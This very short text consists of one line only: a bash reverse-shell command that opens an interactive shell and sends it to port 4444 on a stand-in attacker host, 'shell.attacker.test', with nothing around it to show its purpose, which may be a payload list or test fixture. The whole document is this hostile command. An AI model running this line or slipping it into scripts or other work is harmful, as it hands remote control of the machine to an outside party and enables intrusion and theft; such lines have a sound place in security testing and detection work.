bash -i >& /dev/tcp/shell.attacker.test/4444 0>&1
